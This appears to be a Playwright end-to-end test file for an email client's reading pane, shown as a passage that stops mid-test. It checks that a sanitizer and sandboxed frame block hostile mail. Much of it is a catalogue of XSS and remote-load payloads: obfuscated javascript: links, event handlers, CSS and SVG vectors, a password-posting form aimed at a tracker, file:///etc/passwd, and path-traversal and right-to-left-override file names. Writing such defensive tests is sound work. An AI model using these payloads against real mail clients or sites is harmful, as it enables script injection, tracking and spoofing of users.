import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { type BrowserContext, expect, type Frame, type Locator, type Page, type Request, test } from '@playwright/test';
import fc from 'fast-check';
import type { HttpHost } from '../core/host/http-host.js';
import type { JournalService } from '../core/journal-service.js';
import { GLOBAL_ATTRIBUTES, sanitizeHtml, TAGS } from '../core/mail/sanitize-html.js';
import { LETTER_SANDBOX, letterDocument } from '../renderer/letter-document.js';
import { letter } from './fixtures/letters.js';
import { servedJournal } from './fixtures/served-journal.js';
import { type DovecotServer, dovecotAvailable, startDovecot } from './support/dovecot.js';
import { seedMessages } from './support/maildir.js';

const available = dovecotAvailable();
const USER = 'anna@interlog.test';
const PASSWORD = 'Пароль-hostile';
const RENDERER = path.resolve(import.meta.dirname, '..', 'dist', 'renderer');
const SCREENS = path.resolve(import.meta.dirname, '..', 'test-results', 'screens');
const END = 'End of the hostile letter.';

/**
 * A stand-in for the sender's servers, on loopback so that every fetch an attack manages is seen here with the
 * path that names the attack. It answers everything with a 1×1 PNG, so an image that loads fires no onerror.
 */
async function startTracker() {
  const hits: string[] = [];
  /** Requests that told the tracker which page they came from. */
  const referred: string[] = [];
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  const server = http.createServer((req, res) => {
    hits.push(new URL(req.url ?? '/', 'http://x').pathname);
    if (req.headers.referer) referred.push(`${req.url} from ${req.headers.referer}`);
    res.writeHead(200, { 'Content-Type': 'image/png', 'Access-Control-Allow-Origin': '*' });
    res.end(png);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { origin, hits, referred, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/**
 * The letter frame's sandbox tokens, sorted. A link may open a new window that escapes the sandbox (the only way a
 * click goes anywhere); allow-scripts, allow-same-origin, allow-forms or allow-top-navigation would let the letter
 * run, reach the app, submit, or take the app's window away, and must never appear.
 */
const LETTER_SANDBOX_TOKENS = ['allow-popups', 'allow-popups-to-escape-sandbox'];
const sandboxTokens = (value: string | null) => (value ?? '').split(/\s+/).filter(Boolean).sort();

interface Attack {
  name: string;
  html: string;
}

/**
 * What an attack does when it runs: marks the frame's and the app's window, renames the page, logs, alerts, and
 * opens a window (which the frame's sandbox would let through, were a script to run). Each of these is looked for
 * afterwards; single quotes only, so it fits in a double-quoted attribute.
 */
const run = (tag: string) =>
  `window.pwned='${tag}';try{top.pwned='${tag}';top.document.title='pwned'}catch(e){}document.title='pwned';console.log('XSS-${tag}');alert('${tag}');open('about:blank')`;

/** The same script as a base64 data: URL body, for the attacks that smuggle a whole document. */
const scriptDocument = (tag: string) => Buffer.from(`<script>${run(tag)}</script>`).toString('base64');

/** Head attacks: a letter written as a whole document, with everything a browser honours in <head>. */
function headAttacks(r: string): Attack[] {
  return [
    { name: 'meta refresh to a remote page', html: `<meta http-equiv="refresh" content="0;url=${r}/meta-refresh">` },
    {
      name: 'meta refresh to javascript:',
      html: `<meta http-equiv="Refresh" content="0;url=javascript:${run('meta')}">`,
    },
    { name: 'base href', html: `<base href="${r}/base/">` },
    { name: 'link stylesheet', html: `<link rel="stylesheet" href="${r}/link-stylesheet.css">` },
    { name: 'link prefetch', html: `<link rel="prefetch" href="${r}/link-prefetch">` },
    { name: 'link preload', html: `<link rel="preload" as="image" href="${r}/link-preload.png">` },
    { name: 'link preconnect', html: '<link rel="preconnect" href="https://evil.example">' },
    { name: 'link dns-prefetch', html: '<link rel="dns-prefetch" href="//dns.evil.example">' },
    { name: 'link icon', html: `<link rel="icon" href="${r}/link-icon.png">` },
    { name: 'link import', html: `<link rel="import" href="${r}/link-import.html">` },
    { name: '<style> background url()', html: `<style>body { background: url(${r}/style-background.png) }</style>` },
    { name: '<style> @import', html: `<style>@import url("${r}/style-import.css");</style>` },
    { name: '<style> @ImPoRt mixed case', html: `<style>@ImPoRt '${r}/style-import-case.css';</style>` },
    {
      name: '<style> @font-face',
      html: `<style>@font-face { font-family: t; src: url(${r}/style-font.woff) } p { font-family: t }</style>`,
    },
    {
      name: '<style> list-style-image and cursor',
      html: `<style>li { list-style-image: url(${r}/style-list.png); cursor: url(${r}/style-cursor.png), auto }</style>`,
    },
    { name: '<script> inline', html: `<script>${run('script')}</script>` },
    { name: '<script src>', html: `<script src="${r}/script-src.js"></script>` },
    { name: '<ScRiPt> mixed case', html: `<ScRiPt>${run('script-case')}</sCrIpT>` },
    { name: '<title> breakout', html: `<title></title><script>${run('title')}</script></title>` },
  ];
}

/** Body attacks: handlers, script URLs, forms, frames, plugins, and remote loads by every attribute that can. */
function bodyAttacks(r: string): Attack[] {
  const gif = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
  const link = (name: string, href: string) => ({
    name,
    html: `<p><a href="${href}">link: ${name}</a></p>`,
  });
  return [
    { name: 'img onerror', html: `<img src="x" onerror="${run('img-onerror')}">` },
    { name: 'img onerror window.open', html: `<img src="x" onerror="window.open('${r}/window-open')">` },
    { name: 'img onload on an inline image', html: `<img src="${gif}" onload="${run('img-onload')}">` },
    { name: 'IMG ONERROR upper case', html: `<IMG SRC="${r}/img-upper.png" ONERROR="${run('img-upper')}">` },
    { name: 'p onclick', html: `<p onclick="${run('p-onclick')}">click me (p)</p>` },
    { name: 'div onmouseover', html: `<div onmouseover="${run('div-mouseover')}">hover me (div)</div>` },
    { name: 'a onclick', html: `<a onclick="${run('a-onclick')}">click me (a)</a>` },
    {
      name: 'table and td onclick',
      html: `<table onclick="${run('table')}"><tr><td onclick="${run('td')}">click me (td)</td></tr></table>`,
    },
    { name: 'span onfocus autofocus', html: `<span tabindex="0" autofocus onfocus="${run('autofocus')}">focus</span>` },
    { name: 'details ontoggle', html: `<details open ontoggle="${run('details')}"><summary>s</summary>d</details>` },
    { name: 'marquee onstart', html: `<marquee onstart="${run('marquee')}">m</marquee>` },
    { name: 'body onload in the body', html: `<body onload="${run('body-onload')}">` },
    { name: 'b onmouseenter, no quotes', html: `<b onmouseenter=alert(1) id=x>bold</b>` },
    { name: 'on-handler after a slash', html: `<img/src="x"/onerror="${run('slash')}">` },
    link('javascript:', `javascript:${run('href')}`),
    link('JaVaScRiPt: mixed case', `JaVaScRiPt:${run('href-case')}`),
    link('jav&#x61;script: hex entity', `jav&#x61;script:${run('href-hex')}`),
    link('decimal entities', `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run('href-dec')}`),
    link('entities without semicolons', `&#x6A&#x61&#x76&#x61script&#x3A${run('href-nosemi')}`),
    link('&colon; named entity', `javascript&colon;${run('href-colon')}`),
    link('tab inside the scheme', `java&#x09;script:${run('href-tab')}`),
    link('&Tab; and &NewLine; inside the scheme', `java&Tab;scr&NewLine;ipt:${run('href-named-tab')}`),
    link('newline inside the scheme', `java\nscript:${run('href-newline')}`),
    link('leading spaces and controls', ` &#x01; javascript:${run('href-lead')}`),
    link('vbscript:', 'vbscript:msgbox(1)'),
    link('VBScript: mixed case', 'VBScript:msgbox(1)'),
    link('data:text/html', `data:text/html;base64,${scriptDocument('data-link')}`),
    link('file:', 'file:///etc/passwd'),
    { name: 'a target=_top', html: `<p><a href="${r}/click-top" target="_top">link: target _top</a></p>` },
    { name: 'a target=_self', html: `<p><a href="${r}/click-self" target="_self">link: target _self</a></p>` },
    { name: 'a ping', html: `<p><a href="https://evil.example/pinged" ping="${r}/ping">link: ping</a></p>` },
    { name: 'a download', html: `<p><a href="${r}/download.exe" download>link: download</a></p>` },
    {
      name: 'form with a remote action',
      html: `<form action="${r}/form-action" method="post"><input name="password" value="secret"><button>Log in</button></form>`,
    },
    {
      name: 'form submitted by autofocus',
      html: `<form action="${r}/form-auto"><input autofocus onfocus="this.form.submit()"></form>`,
    },
    { name: 'button formaction', html: `<button formaction="${r}/formaction">Submit</button>` },
    {
      name: 'formaction javascript:',
      html: `<form><button formaction="javascript:${run('formaction')}">Go</button></form>`,
    },
    { name: 'input type=image', html: `<input type="image" src="${r}/input-image.png">` },
    { name: 'iframe src', html: `<iframe src="${r}/iframe.html"></iframe>` },
    { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>` },
    { name: 'iframe javascript:', html: `<iframe src="javascript:${run('iframe-js')}"></iframe>` },
    { name: 'frameset onload', html: `<frameset onload="${run('frameset')}"><frame src="${r}/frame.html"></frameset>` },
    { name: 'object data', html: `<object data="${r}/object.swf" type="application/x-shockwave-flash"></object>` },
    {
      name: 'object data: html',
      html: `<object type="text/html" data="data:text/html;base64,${scriptDocument('object')}"></object>`,
    },
    { name: 'embed src', html: `<embed src="${r}/embed.swf">` },
    { name: 'embed javascript:', html: `<embed src="javascript:${run('embed')}">` },
    { name: 'applet', html: `<applet code="Evil.class" codebase="${r}/applet/"></applet>` },
    { name: 'meta refresh in the body', html: `<meta http-equiv="refresh" content="0; url=${r}/meta-refresh-body">` },
    { name: 'tracking pixel (1×1 remote img)', html: `<img src="${r}/pixel.gif" width="1" height="1" alt="">` },
    { name: 'remote photo', html: `<img src="${r}/photo.png" alt="photo">` },
    { name: 'img srcset', html: `<img srcset="${r}/srcset.png 1x, ${r}/srcset-2x.png 2x">` },
    {
      name: 'picture source srcset',
      html: `<picture><source srcset="${r}/source.png"><img src="${gif}" alt="p"></picture>`,
    },
    { name: 'img lowsrc and dynsrc', html: `<img src="${gif}" lowsrc="${r}/lowsrc.png" dynsrc="${r}/dynsrc.avi">` },
    { name: 'image tag (parsed as img)', html: `<image src="${r}/image-tag.png">` },
    { name: 'img data:image/svg+xml', html: `<img src="data:image/svg+xml;base64,${scriptDocument('svg-data')}">` },
    { name: 'img javascript:', html: `<img src="javascript:${run('img-js')}">` },
    { name: 'relative img against <base>', html: '<img src="relative.png" alt="relative">' },
    // "http:" without slashes is relative to a base of the same scheme: the app's own origin in the browser host.
    { name: 'img http: without slashes', html: '<img src="http:/api/events?from=letter" alt="own origin">' },
    {
      name: 'a https: without slashes',
      html: '<p><a href="https:/evil.example/x">link: https without slashes</a></p>',
    },
    { name: 'video poster', html: `<video poster="${r}/poster.png" src="${r}/video.mp4" autoplay></video>` },
    { name: 'audio autoplay', html: `<audio src="${r}/audio.mp3" autoplay></audio>` },
    { name: 'table background', html: `<table background="${r}/table-background.png"><tr><td>t</td></tr></table>` },
    { name: 'td background', html: `<table><tr><td background="${r}/td-background.png">td</td></tr></table>` },
    { name: 'body background', html: `<body background="${r}/body-background.png">` },
    {
      name: 'noscript smuggling',
      html: `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></p></noscript>`,
    },
    { name: 'comment confusion', html: `<!--><img src=x onerror="${run('comment')}">-->` },
    { name: 'textarea breakout', html: `<textarea></textarea><img src=x onerror="${run('textarea')}">` },
    { name: 'template', html: `<template><img src=x onerror="${run('template')}"></template>` },
  ];
}

/** CSS and SVG attacks: remote url() in every spelling, expressions and bindings, and SVG's own ways to load. */
function styleAndSvgAttacks(r: string): Attack[] {
  const styled = (name: string, style: string) => ({
    name,
    html: `<div style="${style}">styled: ${name}</div>`,
  });
  return [
    styled('style background url()', `background: url(${r}/css-background.png)`),
    styled('style background-image quoted url()', `background-image: url(&quot;${r}/css-quoted.png&quot;)`),
    styled('style u&#114;l() entity', `background-image: u&#114;l(${r}/css-entity.png)`),
    styled('style \\75 rl() CSS escape', `background: \\75 rl(${r}/css-escape.png)`),
    styled('style URL() upper case', `BACKGROUND: URL(${r}/css-upper.png)`),
    styled('style url() after a comment', `background: /**/url(${r}/css-comment.png)`),
    styled('style image-set()', `background-image: image-set("${r}/css-image-set.png" 1x)`),
    styled('style -webkit-image-set()', `background-image: -webkit-image-set(url(${r}/css-webkit-set.png) 1x)`),
    styled('style border-image', `border: 5px solid; border-image: url(${r}/css-border.png) 30 round`),
    styled('style list-style-image', `list-style-image: url(${r}/css-list.png)`),
    styled('style cursor', `cursor: url(${r}/css-cursor.png), auto`),
    styled('style content url()', `content: url(${r}/css-content.png)`),
    styled('style mask-image', `mask-image: url(${r}/css-mask.png); -webkit-mask-image: url(${r}/css-webkit-mask.png)`),
    styled('style @import smuggled', `color: red; @import url(${r}/css-import.css)`),
    styled('style expression()', `width: expression(${run('expression')})`),
    styled('style behavior', `behavior: url(${r}/css-behavior.htc)`),
    styled('style -moz-binding', `-moz-binding: url(${r}/css-binding.xml#x)`),
    styled('style javascript: url', `background: url(javascript:${run('css-js')})`),
    styled('style breaking out of the attribute', `color: red" onmouseover="${run('style-breakout')}`),
    { name: 'svg onload', html: `<svg onload="${run('svg-onload')}" width="10" height="10"><circle r="4"/></svg>` },
    { name: 'svg use href', html: `<svg><use href="${r}/svg-use.svg#x"/></svg>` },
    { name: 'svg use xlink:href', html: `<svg><use xlink:href="${r}/svg-use-xlink.svg#x"/></svg>` },
    { name: 'svg image href', html: `<svg><image href="${r}/svg-image.png" width="10" height="10"/></svg>` },
    {
      name: 'svg a xlink:href javascript:',
      html: `<svg><a xlink:href="javascript:${run('svg-a')}"><text y="10">svg link</text></a></svg>`,
    },
    { name: 'svg script', html: `<svg><script>${run('svg-script')}</script></svg>` },
    {
      name: 'svg animate onbegin',
      html: `<svg><animate onbegin="${run('svg-animate')}" attributeName="x" dur="1s"/></svg>`,
    },
    {
      name: 'svg set href to javascript:',
      html: `<svg><a><set attributeName="href" to="javascript:${run('svg-set')}"/><text y="10">set</text></a></svg>`,
    },
    { name: 'svg feImage', html: `<svg><filter id="f"><feImage href="${r}/svg-feimage.png"/></filter></svg>` },
    {
      name: 'svg foreignObject iframe',
      html: `<svg><foreignObject><iframe src="${r}/svg-foreign.html"></iframe></foreignObject></svg>`,
    },
    { name: 'svg style @import', html: `<svg><style>@import url(${r}/svg-style.css);</style></svg>` },
    { name: 'math xlink:href', html: `<math><mi xlink:href="javascript:${run('math')}">x</mi></math>` },
  ];
}

/** The remote paths an <img src> asks for: the only ones "Show images" may fetch. */
const IMAGE_PATHS = ['/img-upper.png', '/pixel.gif', '/photo.png'];
/** Every remote image of the body letter as the sanitizer writes it: "http:/api/…" becomes a host of its own. */
const remoteImages = (r: string) => [...IMAGE_PATHS.map((p) => `${r}${p}`), 'http://api/events?from=letter'].sort();

/**
 * The links of the body letter the sanitizer keeps, as it writes them: target, ping and download dropped, and
 * "https:/evil.example/x" written whole. A click opens these, and nothing else.
 */
const KEPT_LINKS = (r: string) =>
  [
    `${r}/click-top`,
    `${r}/click-self`,
    'https://evil.example/pinged',
    `${r}/download.exe`,
    'https://evil.example/x',
  ].sort();

function hostileLetters(r: string) {
  const head = headAttacks(r);
  const body = bodyAttacks(r);
  const styles = styleAndSvgAttacks(r);
  const bodyOf = (attacks: Attack[]) => attacks.map((a) => a.html).join('\n');
  return {
    attacks: [...head, ...body, ...styles],
    letters: [
      {
        subject: 'Hostile: document head',
        html: `<!doctype html><html><head>${bodyOf(head)}</head><body onload="${run('onload')}"><h1>Head attacks</h1><img src="relative.png" alt="relative"><p>${END}</p></body></html>`,
      },
      { subject: 'Hostile: body', html: `<h1>Body attacks</h1>\n${bodyOf(body)}\n<p>${END}</p>` },
      { subject: 'Hostile: CSS and SVG', html: `<h1>CSS and SVG attacks</h1>\n${bodyOf(styles)}\n<p>${END}</p>` },
    ],
  };
}

/** Markup in a plain-text letter, and in the header fields the app itself renders. */
const PLAIN_MARKUP = (r: string) =>
  `Price list below.\n<script>${run('plain')}</script>\n<b>not bold</b> <img src="${r}/plain-text.png" onerror="${run('plain-img')}">\n<a href="javascript:${run('plain-link')}">not a link</a>`;
/** Attachment names that would write outside the download folder, hide their type, or carry markup. */
const HOSTILE_FILES = [
  { name: '../../evil.exe', content: Buffer.from('MZ: a program that wants to land outside Downloads') },
  { name: 'invoice\u202etxt.exe', content: Buffer.from('MZ: a program that wants to look like a text file') },
  { name: '<img src=x onerror=alert(1)>.pdf', content: Buffer.from('%PDF-1.4 markup in the name') },
];
/** An ordinary letter with a link to follow, and one whose javascript: address the sanitizer takes away. */
const LINKS_SUBJECT = 'The documents you asked for';
const LINKS_LETTER = (r: string) =>
  `<p>Here they are: <a href="${r}/docs">read the docs</a>.</p>\n<p><a href="javascript:${run('docs-link')}">open the viewer</a></p>\n<p>${END}</p>`;
const SUBJECT_MARKUP = `<img src=x onerror="${run('subject')}"> Subject <b>markup</b>`;

/** Run inside the letter's frame (as a string: the e2e code is type-checked without the DOM library). */
const INSPECT_LETTER = `({
  pwned: window.pwned ?? null,
  title: document.title,
  head: [...document.head.children].map((el) => el.tagName.toLowerCase()),
  active: [...document.body.querySelectorAll(
    'script, style, iframe, frame, object, embed, applet, form, input, button, link, meta, base, svg, math, video, ' +
    'audio, source, picture, template, noscript, textarea, marquee')].map((el) => el.tagName.toLowerCase()),
  handlers: [...document.querySelectorAll('*')].flatMap((el) =>
    [...el.attributes].map((a) => a.name).filter((n) => n.startsWith('on') || n === 'srcset' || n === 'background' ||
      n === 'poster' || n === 'formaction' || n === 'ping' || n === 'target' && el.getAttribute(n) !== '_blank' ||
      n.includes(':'))),
  links: [...document.querySelectorAll('[href]')].map((a) => a.getAttribute('href'))
    .filter((href) => !/^(https?|mailto):/i.test(href)),
  images: [...document.images].map((img) => img.getAttribute('src'))
    .filter((src) => !src.startsWith('data:image/gif;base64,') && !src.startsWith('data:image/png;base64,')),
  end: document.body.innerText.includes(${JSON.stringify(END)}),
})`;

test.describe('hostile HTML in the reading pane', () => {
  test.skip(!available.ok, `needs a Dovecot to sync from (${available.ok ? '' : available.reason})`);
  test.skip(!fs.existsSync(path.join(RENDERER, 'index.html')), 'needs the renderer built: run `npx vite build`');
  test.describe.configure({ mode: 'serial' });

  let server: DovecotServer;
  let service: JournalService;
  let host: HttpHost;
  let tracker: Awaited<ReturnType<typeof startTracker>>;
  let hostile: ReturnType<typeof hostileLetters>;
  let dir: string;

  test.beforeAll(async () => {
    fs.mkdirSync(SCREENS, { recursive: true });
    tracker = await startTracker();
    hostile = hostileLetters(tracker.origin);
    server = await startDovecot({ users: [{ user: USER, password: PASSWORD }] });
    const from = 'Prize Office <winner@evil.example>';
    seedMessages(server, USER, 'INBOX', [
      ...hostile.letters.map((l, i) => ({
        raw: letter({
          from,
          to: USER,
          subject: l.subject,
          messageId: `hostile-${i}@evil.example`,
          date: `Fri, 0${i + 1} Mar 2024 08:00:00 +0300`,
          text: `${l.subject}: the plain-text part.`,
          html: l.html,
        }),
      })),
      {
        raw: letter({
          from,
          to: USER,
          subject: 'Hostile attachments',
          messageId: 'hostile-files@evil.example',
          date: 'Sun, 03 Mar 2024 08:00:00 +0300',
          text: 'Please open the attached files.',
          attachments: HOSTILE_FILES.map((f) => ({ ...f, contentType: 'application/octet-stream' })),
        }),
      },
      {
        raw: letter({
          from: 'Documents <docs@interlog.test>',
          to: USER,
          subject: LINKS_SUBJECT,
          messageId: 'links@interlog.test',
          date: 'Wed, 06 Mar 2024 08:00:00 +0300',
          text: 'The documents are on the site.',
          html: LINKS_LETTER(tracker.origin),
        }),
      },
      {
        raw: letter({
          from,
          to: USER,
          subject: 'Plain text with markup',
          messageId: 'plain-markup@evil.example',
          date: 'Mon, 04 Mar 2024 08:00:00 +0300',
          text: PLAIN_MARKUP(tracker.origin),
        }),
      },
      {
        raw: letter({
          from: `"<img src=x onerror=alert(1)>" <winner@evil.example>`,
          to: USER,
          subject: SUBJECT_MARKUP,
          messageId: 'subject-markup@evil.example',
          date: 'Tue, 05 Mar 2024 08:00:00 +0300',
          text: 'The subject and the sender carry markup.',
        }),
      },
      {
        raw: letter({
          from: `"Bank\u202eknab" <billing@evil.example>`,
          to: USER,
          // A right-to-left override makes "Счёт\u202Efdp.exe" look like "Счётexe.pdf".
          subject: 'Счёт\u202efdp.exe',
          messageId: 'rtl-subject@evil.example',
          date: 'Tue, 05 Mar 2024 09:00:00 +0300',
          text: 'The subject and the sender carry a direction override.',
        }),
      },
    ]);
    ({ dir, service, host } = await servedJournal({
      server,
      user: USER,
      password: PASSWORD,
      prefix: 'interlog-e2e-hostile-',
      staticDir: RENDERER,
    }));
    console.log(`hostile HTML: ${hostile.attacks.length} attacks in ${hostile.letters.length} letters`);
  });

  test.beforeEach(() => {
    // Each test counts the fetches it caused; "Show images" makes some on purpose.
    tracker.hits.length = 0;
    tracker.referred.length = 0;
  });

  test.afterAll(async () => {
    await host?.close();
    await service?.close();
    await server?.stop();
    await tracker?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  interface Seen {
    url: string;
    type: string;
    /** The URL of the frame that asked: 'about:srcdoc' for the letter. */
    frame: string;
    /**
     * Not asked by the app's page or the letter in it: by a page a link opened (whose first load Chromium makes
     * before the page exists, so with no frame).
     */
    popup: boolean;
    /** 'finished' once a server answered; Chromium's reason when it never went out (a CSP block, our abort). */
    outcome: string;
  }

  /**
   * Everything the page could do that a user would notice or a sender could observe: requests (any request off
   * this machine is refused as well as recorded), dialogs, console lines, new windows, navigations of the app.
   */
  async function watch(page: Page, context: BrowserContext) {
    const requests = new Map<Request, Seen>();
    context.on('request', (request) => {
      let frame = '';
      let popup = true;
      try {
        frame = request.frame().url();
        popup = request.frame().page() !== page;
      } catch {
        frame = '(no frame)';
      }
      requests.set(request, { url: request.url(), type: request.resourceType(), frame, popup, outcome: 'pending' });
    });
    context.on('requestfinished', (request) => {
      const seen = requests.get(request);
      if (seen) seen.outcome = 'finished';
    });
    context.on('requestfailed', (request) => {
      const seen = requests.get(request);
      if (seen) seen.outcome = request.failure()?.errorText ?? 'failed';
    });
    const refused: string[] = [];
    await context.route(
      (url) => url.hostname !== '127.0.0.1',
      (route) => {
        refused.push(route.request().url());
        return route.abort();
      },
    );
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const xss: string[] = [];
    page.on('console', (message) => {
      // Only what an attack's own console.log wrote: Chromium reports each blocked load with the attack's URL in it.
      if (message.text().startsWith('XSS-')) xss.push(message.text());
    });
    const popups: Page[] = [];
    context.on('page', (p) => popups.push(p));
    const navigations: string[] = [];
    const all = () => [...requests.values()];
    /** Requests of the app's page that left its own origin, or that the letter's frame made at all. */
    const escaped = () =>
      all().filter((r) => !r.popup && (!r.url.startsWith(`${host.origin}/`) || r.frame === 'about:srcdoc'));
    return {
      /** From now on, a navigation of the app's page is recorded (the app's own load comes before). */
      watchNavigation: () =>
        page.on('framenavigated', (frame) => {
          if (frame === page.mainFrame()) navigations.push(frame.url());
        }),
      count: () => requests.size,
      escaped,
      /** Of those, the ones that reached a server, and the ones that tried to leave this machine. */
      delivered: () => escaped().filter((r) => r.outcome === 'pending' || r.outcome === 'finished'),
      /** What the pages that links opened asked for, as "type url". */
      openedRequests: () =>
        all()
          .filter((r) => r.popup)
          .map((r) => `${r.type} ${r.url}`),
      refused,
      dialogs,
      xss,
      /** The addresses of the new pages (windows, tabs) opened so far. */
      popups: () => popups.map((p) => p.url()),
      navigations,
    };
  }

  type Watched = Awaited<ReturnType<typeof watch>>;

  async function open(page: Page) {
    const response = await page.goto(host.url);
    expect(response?.status()).toBe(200);
    await expect(page.getByRole('listbox', { name: 'Interactions' })).toBeVisible();
  }

  const row = (page: Page, title: string) =>
    page
      .locator('.vlist')
      .getByRole('option')
      .filter({ has: page.locator('.title').getByText(title, { exact: true }) });

  function letterFrame(page: Page): Frame {
    const frames = page.frames().filter((f) => f !== page.mainFrame());
    // Exactly one child frame: an <iframe>, <object> or <embed> that got through would add its own.
    expect(frames.map((f) => f.url())).toEqual(['about:srcdoc']);
    return frames[0] as Frame;
  }

  /** Opens a letter and waits until its frame has loaded everything it was going to load. */
  async function read(page: Page, subject: string): Promise<Frame> {
    await row(page, subject).click();
    await expect(page.locator('.letter-title')).toContainText(subject);
    await expect(page.frameLocator('iframe.letter-frame').locator('body')).toContainText(END);
    const frame = letterFrame(page);
    await frame.waitForLoadState('load');
    return frame;
  }

  /** The app as the user left it: same address, same title, nothing marked by a script. */
  async function appState(page: Page) {
    return page.evaluate(`({ url: location.href, title: document.title, pwned: window.pwned ?? null })`);
  }

  /**
   * A reader's click (or Enter) on a link in the letter. One the sanitizer kept, `href`, opens exactly one new page,
   * at the link's own address and with no way back to the app (no opener); one whose address it dropped opens
   * nothing. Returns the address opened, or null.
   */
  async function activateLink(
    seen: Watched,
    page: Page,
    href: string | null,
    activate: () => Promise<void>,
  ): Promise<string | null> {
    if (href === null) {
      await activate();
      return null;
    }
    const earlier = seen.openedRequests().length;
    const [popup] = await Promise.all([page.context().waitForEvent('page'), activate()]);
    await expect.poll(() => seen.openedRequests().slice(earlier)).toEqual([`document ${href}`]);
    // An address off this machine is refused by the watcher, and the page shows Chromium's error instead.
    if (new URL(href).hostname === '127.0.0.1') await expect.poll(() => popup.url()).toBe(href);
    expect(await popup.evaluate('window.opener')).toBeNull();
    await popup.close();
    return href;
  }

  const clickLink = async (seen: Watched, page: Page, link: Locator) =>
    activateLink(seen, page, await link.getAttribute('href'), () => link.click());

  /**
   * What the tracker saw, less the icon Chromium itself asks for when it shows a tab the tracker's page is in (any
   * tab does that; the letter has no part in it, and Electron opens no window to ask for one).
   */
  const trackerPages = () => tracker.hits.filter((hit) => hit !== '/favicon.ico');
  // The opened page's own favicon request names that page as its referrer; the letter's link sends none.
  const referredByLetters = () => tracker.referred.filter((r) => !r.startsWith('/favicon.ico '));

  test('no attack runs a script, loads anything, or navigates', async ({ page, context }) => {
    const seen = await watch(page, context);
    await open(page);
    seen.watchNavigation();
    const before = await appState(page);
    expect(before).toMatchObject({ url: `${host.origin}/`, pwned: null });
    const opened: string[] = [];

    for (const { subject } of hostile.letters) {
      const frame = await read(page, subject);
      const inside = (await frame.evaluate(INSPECT_LETTER)) as Record<string, unknown>;
      expect(inside, subject).toEqual({
        pwned: null,
        title: '',
        head: ['meta', 'meta', 'meta', 'style'],
        active: [],
        handlers: [],
        links: [],
        images: [],
        end: true,
      });
      // The frame's own wall: the policy it was written with, and a sandbox that lets nothing run or reach the app.
      expect(sandboxTokens(await page.locator('iframe.letter-frame').getAttribute('sandbox'))).toEqual(
        LETTER_SANDBOX_TOKENS,
      );
      expect(await page.locator('iframe.letter-frame').getAttribute('srcdoc')).toContain(
        `content="default-src 'none'; img-src data:;`,
      );

      // A user clicks, hovers and tabs through the letter: a kept link opens its own address in a new page, nothing
      // else does anything.
      const frameLocator = page.frameLocator('iframe.letter-frame');
      const links = frameLocator.locator('a');
      for (let i = 0; i < (await links.count()); i++) {
        const link = links.nth(i);
        if (!(await link.isVisible())) continue;
        const href = await clickLink(seen, page, link);
        if (href !== null) opened.push(href);
      }
      for (const text of ['click me (p)', 'click me (td)', 'hover me (div)', 'bold']) {
        const target = frameLocator.getByText(text, { exact: true });
        if ((await target.count()) > 0) {
          await target.first().hover();
          await target.first().click();
        }
      }
      await frameLocator.locator('body').press('Tab');
      // Enter on a link Tab reached opens it as a click does.
      const focused = (await frame.evaluate(
        `document.activeElement.localName === 'a' ? document.activeElement.getAttribute('href') : null`,
      )) as string | null;
      const entered = await activateLink(seen, page, focused, () => frameLocator.locator('body').press('Enter'));
      if (entered !== null) opened.push(entered);
      await page.screenshot({ path: path.join(SCREENS, `hostile-${subject.replace(/\W+/g, '-')}.png`) });
      // A meta refresh fires after load and a click's navigation takes a moment: give them the time to show up.
      await page.waitForTimeout(1_000);
      expect(letterFrame(page).url()).toBe('about:srcdoc');
    }

    expect(await appState(page)).toEqual(before);
    expect(seen.escaped()).toEqual([]);
    // Each kept link opened once, by its click, and the pages opened asked for their own address and nothing more:
    // the tracker saw those on this machine, the watcher refused the others.
    expect([...new Set(opened)].sort()).toEqual(KEPT_LINKS(tracker.origin));
    expect(seen.popups()).toHaveLength(opened.length);
    expect(seen.openedRequests()).toEqual(opened.map((url) => `document ${url}`));
    const onLoopback = (url: string) => new URL(url).hostname === '127.0.0.1';
    expect(trackerPages()).toEqual(opened.filter(onLoopback).map((url) => new URL(url).pathname));
    expect(seen.refused).toEqual(opened.filter((url) => !onLoopback(url)));
    expect(referredByLetters()).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect(seen.xss).toEqual([]);
    expect(seen.navigations).toEqual([]);
    const appRequests = seen.count() - seen.openedRequests().length;
    console.log(
      `hostile HTML: ${hostile.attacks.length} attacks tried, 0 ran a script, 0 of the app's ${appRequests} requests ` +
        `left it; ${opened.length} clicks and Enters on kept links opened ${seen.popups().length} new pages, each at ` +
        'its own address, none with an opener',
    );
  });

  test('a link opens its page in a new one, outside the app; a javascript: link opens nothing', async ({
    page,
    context,
  }) => {
    const seen = await watch(page, context);
    await open(page);
    seen.watchNavigation();
    const before = await appState(page);
    await read(page, LINKS_SUBJECT);
    const letter = page.frameLocator('iframe.letter-frame');
    const docs = `${tracker.origin}/docs`;
    await expect(letter.getByText('read the docs')).toHaveAttribute('href', docs);
    // The sanitizer took the javascript: address away; what is left is text in a link to nowhere.
    await expect(letter.getByText('open the viewer')).not.toHaveAttribute('href', /.*/);

    expect(await clickLink(seen, page, letter.getByText('read the docs'))).toBe(docs);
    expect(await clickLink(seen, page, letter.getByText('open the viewer'))).toBeNull();
    // A click's new page takes a moment: give a stray one the time to show up.
    await page.waitForTimeout(1_000);

    expect(seen.popups()).toEqual([docs]);
    expect(seen.openedRequests()).toEqual([`document ${docs}`]);
    expect(trackerPages()).toEqual(['/docs']);
    // The link is noreferrer: the site learns nothing of the app's address.
    expect(referredByLetters()).toEqual([]);
    expect(letterFrame(page).url()).toBe('about:srcdoc');
